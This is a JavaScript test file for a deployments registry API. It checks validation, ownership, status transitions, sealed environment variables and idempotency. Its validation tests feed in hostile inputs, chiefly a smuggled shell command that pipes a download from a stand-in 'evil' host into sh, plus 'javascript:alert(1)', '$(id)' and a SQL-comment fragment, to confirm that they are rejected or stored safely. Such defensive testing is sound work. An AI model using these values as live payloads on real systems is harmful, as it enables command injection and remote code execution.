// The fleet's registry of deployments.

import assert from "node:assert/strict";
import test, { after } from "node:test";
import { startStackAuth } from "./fakes/stack-auth.js";
import { fleet, pointers, send } from "./support/fleet.js";
import { pages, problem, rowCounts, startWorker } from "./support/harness.js";
import { ADMIN_TOKEN, misspelled, newStellarWallet, people, production, STAFF_DOMAIN } from "./support/people.js";

const stack = await startStackAuth();
after(() => stack.close());
const worker = await startWorker({ ...production(stack), SEALING_KEY: "5e".repeat(32) });
const { sql, url } = worker;
const { signIn, mint, newKey, findNoSecret, secret } = people(worker, stack);
const { call, ok, as, row } = fleet(worker);

const me = await signIn();
const other = await signIn();
const staff = mint({ email: `ops@${STAFF_DOMAIN}`, email_verified: true });
/** The service that runs registered deployments. */
const deployer = (await newKey(staff, { scopes: ["deploy", "fleet:deploy"] })).key;

const GITHUB = "https://github.com/acme/app";
const STATUSES = ["pending", "processing", "success", "failed"];
const COLUMNS = "appName branch createdAt creator envVarNames errorMessage github githubRepo id name port replicas status updatedAt url";

let names = 0;
const newName = () => `app-${(names += 1)}`;
const fields = (more = {}) => ({ name: newName(), github: GITHUB, creator: me.wallet.address, ...more });
const create = (more, token = me.token) => ok(201, "POST", "/deployments", fields(more), token);
const stored = (name) => row("SELECT * FROM fleet_deployments WHERE name = ?", name);

/** Puts a deployment into a status, whichever it is in. */
const put = (name, status) => sql("UPDATE fleet_deployments SET status = ? WHERE name = ?", status, name);

test("A deployment is created pending, with defaults for absent fields", async () => {
  const sent = fields();
  const response = await call("POST", "/deployments", sent, me.token);
  assert.equal(response.status, 201);
  assert.equal(response.headers.get("location"), `/deployments/${sent.name}`);
  const created = await response.json();
  assert.equal(Object.keys(created).sort().join(" "), COLUMNS);
  assert.ok(Number.isSafeInteger(created.id));
  assert.equal(created.createdAt, created.updatedAt);
  assert.match(created.createdAt, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  const { id, createdAt, updatedAt, ...rest } = created;
  assert.deepEqual(rest, {
    name: sent.name, appName: sent.name, url: `http://${sent.name}.localhost`, port: 3000, branch: "main", status: "pending",
    github: GITHUB, githubRepo: "acme/app", replicas: 1,
    creator: me.wallet.address.toLowerCase(), errorMessage: null, envVarNames: [],
  });
  assert.deepEqual(await ok(200, "GET", `/deployments/${sent.name}`, undefined, me.token), created);
});

test("Each documented name of a field is understood", async () => {
  for (const [name, github, env] of [["name", "github", "envVars"], ["app_name", "github_repo", "env_vars"], ["appName", "githubRepo", "envVars"]]) {
    const given = newName();
    const sent = { [name]: given, [github]: `${GITHUB}.git`, creator: me.wallet.address, [env]: { A: "1" }, port: 8080, branch: "a/b", replicas: 10 };
    const created = await ok(201, "POST", "/deployments", sent, me.token);
    assert.deepEqual(
      [created.name, created.github, created.port, created.branch, created.replicas, created.envVarNames],
      [given, GITHUB, 8080, "a/b", 10, ["A"]],
    );
  }
});

test("A repository is stored in one form, however it is written", async () => {
  for (const github of ["Acme/app.js", "Acme/app.js/", "Acme/app.js.git", "github.com/Acme/app.js", "github.com/Acme/app.js.git/", "https://github.com/Acme/app.js/"]) {
    const created = await create({ github });
    assert.deepEqual([created.github, created.githubRepo], ["https://github.com/Acme/app.js", "Acme/app.js"], github);
    assert.equal((await stored(created.name)).github, "https://github.com/Acme/app.js");
  }
});

test("With FLEET_DOMAIN a deployment's URL is in that domain, until its deployer sets another one", async () => {
  const { api } = await startWorker({ FLEET_DOMAIN: "fleet.example:8443" });
  const sent = fields({ creator: newStellarWallet().address });
  const created = await (await api("POST", "/deployments", sent)).json();
  assert.equal(created.url, `https://${sent.name}.fleet.example:8443`);
  const told = await api("PATCH", `/deployments/${sent.name}/status`, { status: "processing", url: "https://app.example/" });
  assert.equal((await told.json()).url, "https://app.example/");
});

test("A Stellar key with the right checksum and case can be a creator", async () => {
  const stellar = await signIn(newStellarWallet());
  const creator = stellar.wallet.address;
  const created = await create({ creator }, stellar.token);
  assert.equal(created.creator, creator);
  assert.deepEqual((await ok(200, "GET", `/deployments?creator=${creator}`, undefined, stellar.token)).map(({ name }) => name), [created.name]);
  await problem(await call("POST", "/deployments", fields({ creator }), me.token), 403, "not_your_wallet");
  await problem(await call("POST", "/deployments", fields(), stellar.token), 403, "not_your_wallet");
  assert.deepEqual(await ok(200, "GET", `/deployments?creator=${creator}`, undefined, me.token), []);
  for (const bad of misspelled(creator)) {
    assert.deepEqual(pointers(await problem(await call("POST", "/deployments", fields({ creator: bad }), stellar.token), 400)), ["/creator"]);
    await problem(await call("GET", `/deployments?creator=${bad}`, undefined, stellar.token), 400);
  }
});

test("A wallet's list has a hundred entries at most", async () => {
  const lister = await signIn(newStellarWallet());
  const creator = lister.wallet.address;
  for (let n = 0; n < 21; n++) await create({ creator }, lister.token);
  assert.equal((await ok(200, "GET", `/deployments?creator=${creator}`, undefined, lister.token)).length, 21);
  assert.equal((await ok(200, "GET", "/deployments", undefined, lister.token)).length, 20);
  assert.equal((await ok(200, "GET", `/deployments?creator=${creator}&limit=5`, undefined, lister.token)).length, 5);
});

test("One answer names every field that is wrong, and nothing is written", async () => {
  const before = await rowCounts(worker);
  const bad = { app_name: "A!", githubRepo: "acme", creator: "';curl evil|sh;'", port: 0, branch: "a..b", replicas: 11, envVars: [] };
  const all = await problem(await call("POST", "/deployments", bad, me.token), 400);
  assert.deepEqual(pointers(all), ["/app_name", "/githubRepo", "/creator", "/port", "/branch", "/replicas", "/envVars"]);
  assert.deepEqual(pointers(await problem(await call("POST", "/deployments", {}, me.token), 400)), ["/name", "/github", "/creator"]);

  for (const [field, values] of Object.entries({
    name: ["", "1a", "-a", "a-", "a_b", "Abc", "a".repeat(21), 5, null, ["a"], "ä", "a b", "a\n"],
    github: ["", "http://github.com/a/b", "https://gitlab.com/a/b", "https://github.com/a", "https://github.com/a/b?x", "git@github.com:a/b", "a/b/c", "a/b.git.git", "https://a/b", "github.com/a", `https://github.com/a/${"b".repeat(101)}`, 1],
    creator: ["", "0x12", `0x${"g".repeat(40)}`, me.wallet.address.slice(2), `${me.wallet.address} `, 1],
    port: [0, 65_536, -1, 1.5, "3000", true],
    replicas: [0, 11, -1, 2.5, "2"],
    branch: ["", "a b", "-x", "a..b", "refs/", "x".repeat(256), 1],
    envVars: ["A=1", [], { "1A": "x" }, { "A-B": "x" }, { "": "x" }, { A: 1 }, { A: null }, { A: "x".repeat(64 * 1024) },
      Object.fromEntries(Array.from({ length: 101 }, (_, n) => [`V${n}`, ""]))],
  })) {
    for (const value of values) {
      const told = await problem(await call("POST", "/deployments", fields({ [field]: value }), me.token), 400);
      assert.deepEqual(pointers(told), [`/${field}`], JSON.stringify(value).slice(0, 80));
    }
  }
  for (const body of ["", "{", "[]", "null", "1", '{"name":"a\\u0000"}']) await problem(await call("POST", "/deployments", body, me.token), 400);
  assert.deepEqual(await rowCounts(worker), before);
});

test("A name is given once, to the first request", async () => {
  const { name } = await create({});
  const before = await stored(name);
  await problem(await call("POST", "/deployments", fields({ name, port: 1 }), me.token), 409, "name_taken");
  await problem(await call("POST", "/deployments", fields({ name, creator: other.wallet.address }), other.token), 409, "name_taken");
  assert.deepEqual(await stored(name), before);

  const wanted = newName();
  const answers = await Promise.all(Array.from({ length: 20 }, () => call("POST", "/deployments", fields({ name: wanted }), me.token)));
  assert.deepEqual(answers.map(({ status }) => status).sort(), [201, ...Array(19).fill(409)]);
});

test("A user deploys for their own wallet, a deployer for any wallet", async () => {
  await problem(await call("POST", "/deployments", fields({ creator: other.wallet.address }), me.token), 403, "not_your_wallet");
  const walletless = mint({});
  await problem(await call("POST", "/deployments", fields(), walletless), 403, "not_your_wallet");
  const created = await create({ creator: other.wallet.address }, deployer);
  assert.equal(created.creator, other.wallet.address.toLowerCase());
  await problem(await call("POST", "/deployments", fields()), 401);
  const { key } = await newKey(me.token, { scopes: ["projects:read"] });
  await problem(await call("POST", "/deployments", fields(), key), 403, "insufficient_scope");
});

test("The wallet's user can see and change a deployment that a deployer registered", async () => {
  const { name } = await create({ creator: other.wallet.address }, deployer);
  assert.equal((await ok(200, "GET", `/deployments/${name}`, undefined, other.token)).name, name);
  const listed = await ok(200, "GET", "/deployments?limit=100", undefined, other.token);
  assert.ok(listed.some((each) => each.name === name));
  assert.equal((await ok(200, "PATCH", `/deployments/${name}/replicas`, { replicas: 2 }, other.token)).replicas, 2);
  await problem(await call("GET", `/deployments/${name}`, undefined, me.token), 404);
});

test("A list has the caller's own deployments, newest first, by creator and by status, page by page", async () => {
  const lister = await signIn();
  const creator = lister.wallet.address;
  const made = [];
  for (let n = 0; n < 7; n++) made.push(await create({ creator }, lister.token));
  for (const { name } of made.slice(0, 3)) await put(name, "failed");
  const newest = made.toSorted((a, b) => b.createdAt.localeCompare(a.createdAt) || (b.name > a.name ? 1 : -1)).map(({ name }) => name);

  const listed = async (path, token = lister.token) => {
    const found = [];
    for await (const page of pages(as(token), path)) {
      assert.ok(page.length <= 2);
      found.push(...page.map(({ name }) => name));
    }
    return found;
  };
  assert.deepEqual(await listed("/deployments?limit=2"), newest);
  assert.deepEqual(await listed("/deployments?limit=2&status=failed"), newest.filter((name) => made.slice(0, 3).some((each) => each.name === name)));
  assert.deepEqual(await listed("/deployments?limit=2&status=success"), []);
  assert.deepEqual(await listed(`/deployments?limit=2&creator=0x${creator.slice(2).toUpperCase()}`), newest);
  assert.deepEqual(await listed(`/deployments?limit=2&creator=${other.wallet.address}`), []);
  assert.deepEqual(await listed(`/deployments?limit=2&creator=${creator}`, deployer), newest);
  assert.deepEqual(await listed(`/deployments?limit=2&creator=${creator}`, ADMIN_TOKEN), newest);

  for (const query of ["status=done", "status=", "creator=me", "limit=0", "limit=101", "cursor=x"]) {
    await problem(await call("GET", `/deployments?${query}`, undefined, lister.token), 400);
  }
});

test("A status follows the one before it, and every other change is refused naming the present one", async () => {
  const follows = { pending: "failed", processing: "pending", success: "processing", failed: "processing" };
  const { name } = await create({});
  for (const from of STATUSES) {
    for (const to of STATUSES) {
      await put(name, from);
      const before = await stored(name);
      const response = await call("PATCH", `/deployments/${name}/status`, { status: to }, me.token);
      if (follows[to] === from) {
        assert.equal(response.status, 200, `${from} → ${to}`);
        assert.equal((await response.json()).status, to);
      } else {
        const { detail } = await problem(response, 409, "status_conflict");
        assert.match(detail, new RegExp(`is \`${from}\``));
        assert.deepEqual(await stored(name), before, `${from} → ${to}`);
      }
    }
  }
  for (const body of [{}, { status: "done" }, { status: 1 }, { status: "Success" }]) {
    await problem(await call("PATCH", `/deployments/${name}/status`, body, me.token), 400);
  }
});

test("A failed deployment keeps its message until it is retried, and its URL stays", async () => {
  const { name } = await create({});
  const go = (body) => ok(200, "PATCH", `/deployments/${name}/status`, body, deployer);
  assert.equal((await go({ status: "processing", url: "https://app.example:8443/x" })).url, "https://app.example:8443/x");
  const failed = await go({ status: "failed", error_message: "no such branch" });
  assert.deepEqual([failed.errorMessage, failed.url], ["no such branch", "https://app.example:8443/x"]);
  const again = await go({ status: "pending" });
  assert.deepEqual([again.errorMessage, again.url], [null, "https://app.example:8443/x"]);
  for (const bad of ["javascript:alert(1)", "ftp://a", "a", "", 1]) {
    const told = await problem(await call("PATCH", `/deployments/${name}/status`, { status: "processing", url: bad, errorMessage: "" }, deployer), 400);
    assert.deepEqual(pointers(told), ["/url", "/errorMessage"]);
  }
});

test("Of parallel changes of a status exactly one wins", async () => {
  const { name } = await create({});
  await put(name, "processing");
  const changes = Array.from({ length: 20 }, (_, n) => ({ status: n % 2 ? "success" : "failed", url: `https://app.example/${n}` }));
  const answers = await Promise.all(changes.map((body) => call("PATCH", `/deployments/${name}/status`, body, me.token)));
  const won = answers.findIndex(({ status }) => status === 200);
  assert.deepEqual(answers.map(({ status }) => status).sort(), [200, ...Array(19).fill(409)]);
  const { status, url: kept } = await stored(name);
  assert.deepEqual({ status, url: kept }, changes[won]);
});

test("Variables are stored sealed, their owner sees only names, and only a deployer reads the values", async () => {
  const token = secret("vault-5d1c9b-correct-horse-battery");
  const later = secret("vault-77aa01-staple-again-and-again");
  const { name, envVarNames } = await create({ envVars: { API_TOKEN: token, EMPTY: "", "_x1": 'ä"\\\n$(id)' } });
  assert.deepEqual(envVarNames.toSorted(), ["API_TOKEN", "EMPTY", "_x1"]);
  const path = `/deployments/${name}/env`;
  const read = await call("GET", path, undefined, deployer);
  assert.equal(read.headers.get("cache-control"), "no-store");
  assert.deepEqual(await read.json(), { envVars: { API_TOKEN: token, EMPTY: "", "_x1": 'ä"\\\n$(id)' } });
  assert.equal((await ok(200, "GET", path, undefined, ADMIN_TOKEN)).envVars.API_TOKEN, token);
  for (const refused of [me.token, other.token, (await newKey(me.token, { scopes: ["deploy"] })).key]) {
    await problem(await call("GET", path, undefined, refused), 403, "insufficient_scope");
  }
  await problem(await call("GET", path), 401);
  await problem(await call("POST", "/auth/keys", { name: "x", scopes: ["fleet:deploy"] }, me.token), 403);

  const changed = await ok(200, "PATCH", path, { envVars: { LATER: later }, port: 81 }, me.token);
  assert.deepEqual([changed.envVarNames, changed.port], [["LATER"], 81]);
  assert.deepEqual(await ok(200, "GET", path, undefined, deployer), { envVars: { LATER: later } });

  // A sealed text can be opened only in its own row.
  const { name: thief } = await create({ envVars: { A: "b" } });
  await sql("UPDATE fleet_deployments SET env_sealed = (SELECT env_sealed FROM fleet_deployments WHERE name = ?) WHERE name = ?", name, thief);
  await problem(await call("GET", `/deployments/${thief}/env`, undefined, deployer), 503, "not_configured");

  const rows = await sql("SELECT env_sealed FROM fleet_deployments WHERE env_sealed IS NOT NULL");
  assert.ok(rows.length >= 2 && rows.every(({ env_sealed }) => env_sealed.startsWith("v1.")));
  await findNoSecret();
  const cleared = await ok(200, "PATCH", path, { envVars: {} }, me.token);
  assert.deepEqual([cleared.envVarNames, cleared.port], [[], 81]);
  assert.equal((await stored(name)).env_sealed, null);
  assert.deepEqual(await ok(200, "GET", path, undefined, deployer), { envVars: {} });
});

test("Replicas are from 1 to 10", async () => {
  const { name } = await create({});
  assert.equal((await ok(200, "PATCH", `/deployments/${name}/replicas`, { replicas: 10 }, me.token)).replicas, 10);
  for (const replicas of [0, 11, "2", 1.5, null, undefined]) {
    const told = await problem(await call("PATCH", `/deployments/${name}/replicas`, { replicas }, me.token), 400);
    assert.deepEqual(pointers(told), ["/replicas"]);
  }
  assert.equal((await stored(name)).replicas, 10);
});

test("A deployment is deleted once, and its name is free again", async () => {
  const { name, id } = await create({ envVars: { A: "b" } });
  assert.deepEqual(await ok(200, "DELETE", `/deployments/${name}`, undefined, me.token), { success: true });
  assert.equal((await problem(await call("DELETE", `/deployments/${name}`, undefined, me.token), 404)).error, "Not found");
  assert.equal((await problem(await call("GET", `/deployments/${name}`, undefined, me.token), 404)).error, "Not found");
  const again = await create({ name, creator: other.wallet.address }, other.token);
  assert.notEqual(again.id, id);
  assert.equal((await sql("SELECT * FROM audit_log WHERE action = 'fleet-deployment.delete' AND subject = ?", name)).length, 1);
});

test("Another user's deployment is not found by any route, and stays unchanged", async () => {
  const { name } = await create({ envVars: { A: "b" } });
  const before = await stored(name);
  const theirs = [other.token, (await newKey(other.token, { scopes: ["deploy"] })).key];
  for (const token of theirs) {
    for (const at of [name, "no-such-name", "%00", "A", "';--", "%F0%9F%A6%8A"]) {
      for (const [method, path, body] of [
        ["GET", ""], ["DELETE", ""], ["PATCH", "/status", { status: "processing" }], ["PATCH", "/env", { envVars: { A: "c" } }],
        ["PATCH", "/env", { envVars: {} }], ["PATCH", "/replicas", { replicas: 3 }],
      ]) {
        assert.equal((await problem(await call(method, `/deployments/${at}${path}`, body, token), 404, "not_found")).detail, "Not found");
      }
    }
  }
  assert.deepEqual(await stored(name), before);
  for (const [method, path, body] of [["GET", ""], ["DELETE", ""], ["PATCH", "/status", { status: "processing" }]]) {
    await problem(await call(method, `/deployments/${name}${path}`, body), 401);
  }
});

test("The same routes answer under /api/v1", async () => {
  const name = newName();
  const v1 = async (method, path, body) => {
    const response = await send(url, method, `/api/v1${path}`, body, { authorization: `Bearer ${me.token}` });
    return [response.status, await response.json()];
  };
  assert.equal((await v1("POST", "/deployments", fields({ name })))[0], 201);
  assert.equal((await v1("GET", `/deployments/${name}`))[1].name, name);
  assert.equal((await v1("PATCH", `/deployments/${name}/status`, { status: "processing" }))[1].status, "processing");
  assert.deepEqual((await v1("PATCH", `/deployments/${name}/env`, { envVars: { A: "" } }))[1].envVarNames, ["A"]);
  assert.equal((await v1("PATCH", `/deployments/${name}/replicas`, { replicas: 4 }))[1].replicas, 4);
  const [status, [newest]] = await v1("GET", "/deployments?limit=1");
  assert.deepEqual([status, newest], [200, (await v1("GET", `/deployments/${name}`))[1]]);
  assert.deepEqual(await v1("DELETE", `/deployments/${name}`), [200, { success: true }]);
  assert.equal((await v1("GET", `/deployments/${name}`))[0], 404);
  assert.equal((await v1("GET", "/projects"))[0], 404);
});

test("A creation that is sent again with its Idempotency-Key is the same one", async () => {
  const sent = fields({ envVars: { A: "b" } });
  const headers = { "idempotency-key": "fleet-1" };
  const again = () => ok(201, "POST", "/deployments", sent, me.token, headers);
  const first = await again();
  assert.deepEqual(await again(), first);
  // The first one died before its answer was kept.
  await sql("UPDATE idempotency SET status = NULL, body = NULL, headers = NULL, lease_until = 0 WHERE key = ?", "fleet-1");
  assert.deepEqual(await again(), first);
  assert.equal((await sql("SELECT * FROM fleet_deployments WHERE name = ?", sent.name)).length, 1);
  await problem(await call("POST", "/deployments", { ...sent, port: 1 }, me.token, headers), 422, "idempotency_key_reused");
});

test("Linking a wallet moves its deployments to the account, and deleting the account deletes them", async () => {
  const owner = await signIn();
  const creator = owner.wallet.address;
  const { name } = await create({ creator, envVars: { A: "b" } }, owner.token);
  const { id } = await ok(201, "POST", "/payments", { name: "Rent", amount: "1", creator }, owner.token);
  const { token: machine, walletAddress } = await ok(201, "POST", "/workers", {}, owner.token);
  const beat = () => call("POST", "/heartbeat", { walletAddress, timestamp: new Date().toISOString(), containers: [] }, machine);
  assert.equal((await beat()).status, 200);

  const linked = mint({});
  const { userId } = await signIn(owner.wallet, linked);
  assert.equal((await ok(200, "GET", `/deployments/${name}`, undefined, linked)).name, name);
  assert.equal((await ok(200, "GET", `/payments/${id}`, undefined, linked)).id, id);
  assert.equal((await ok(200, "GET", `/workers/${walletAddress}`, undefined, linked)).exists, true);
  assert.equal((await beat()).status, 200);

  assert.equal((await call("DELETE", `/auth/me?confirm=${userId}`, undefined, linked)).status, 204);
  assert.equal(await stored(name), undefined);
  await problem(await beat(), 401);
  assert.equal((await row("SELECT amount FROM payments WHERE id = ?", id)).amount, "1", "the ledger stays");
});
